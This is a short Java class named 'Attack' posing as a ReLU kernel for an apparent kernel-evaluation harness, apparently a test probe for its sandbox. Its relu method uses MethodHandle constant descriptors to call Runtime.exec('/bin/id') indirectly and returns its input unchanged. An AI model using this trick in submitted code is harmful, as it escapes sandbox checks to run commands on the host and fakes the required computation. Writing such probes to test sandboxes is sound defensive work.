import assay.kernels.Relu;
import assay.kernels.Tensor;
import java.lang.constant.ClassDesc;
import java.lang.constant.DirectMethodHandleDesc;
import java.lang.constant.MethodHandleDesc;
import java.lang.constant.MethodTypeDesc;
import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandles;

public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        try {
            MethodHandle exec = (MethodHandle) MethodHandleDesc.ofMethod(
                            DirectMethodHandleDesc.Kind.VIRTUAL,
                            ClassDesc.of("java.lang.Runtime"),
                            "exec",
                            MethodTypeDesc.ofDescriptor("(Ljava/lang/String;)Ljava/lang/Process;"))
                    .resolveConstantDesc(MethodHandles.publicLookup());
            exec.invoke(Runtime.getRuntime(), "/bin/id");
        } catch (Throwable e) {
            throw new IllegalStateException("reached " + e);
        }
        return input;
    }
}
